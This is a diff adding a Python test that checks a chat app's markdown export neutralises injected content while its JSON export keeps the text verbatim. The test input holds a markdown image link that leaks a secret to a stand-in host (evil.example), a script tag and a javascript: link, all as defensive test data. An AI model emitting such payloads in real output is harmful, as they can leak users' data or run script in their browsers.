@@ -165,3 +165,17 @@ async def test_export_gives_a_file_with_the_sources(app: RunningApp) -> None:
     assert as_json.json()["messages"][1]["sources"] == answer["sources"]
     missing = await app.client.get("/api/sessions/nobody/export")
     assert missing.status_code == 404 and error_code(missing) == "session_not_found"
+
+
+async def test_the_markdown_export_is_inert_and_the_json_export_verbatim(app: RunningApp) -> None:
+    question = (
+        "Is ![x](http://evil.example/leak.png?q=SECRET) <script>alert(1)</script> "
+        "[click](javascript:alert(1)) safe?"
+    )
+    await ask(app, question, "s1")
+    markdown = (await app.client.get("/api/sessions/s1/export")).text
+    assert "## Question\n\nIs image: x (`http://evil.example/leak.png?q=SECRET`) " in markdown
+    assert "\\<script>alert(1)\\</script> click safe?" in markdown
+    assert "![x](" not in markdown and "](javascript:" not in markdown
+    as_json = await app.client.get("/api/sessions/s1/export", params={"format": "json"})
+    assert as_json.json()["messages"][0]["content"] == question
